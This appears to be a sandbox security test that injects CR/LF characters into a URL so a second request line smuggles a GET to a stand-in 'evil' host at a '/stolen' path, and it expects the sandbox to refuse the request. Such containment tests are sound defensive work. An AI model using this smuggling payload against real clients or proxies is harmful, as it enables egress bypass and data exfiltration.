# ATTACK: flowc_http to the allowed host with CR/LF and spaces in the URL (request smuggling: a second request line for another host). CONTAINED (expected): the URL is refused (a URL may not hold such characters) or the request fails inside the sandbox, nothing reaches the other host.
# expect: ok; value~request failed|not allowed|refused URL; evil=none; allow=server
import flowc_http

E = f"{SERVER_HOST}:{EVIL_PORT}"
try:
    r = await flowc_http.get(SERVER + f"/hello HTTP/1.1\r\nHost: {E}\r\n\r\nGET http://{E}/stolen")
    result = f"reached: {r['status']}"
except Exception as e:
    result = f"denied: {e}"
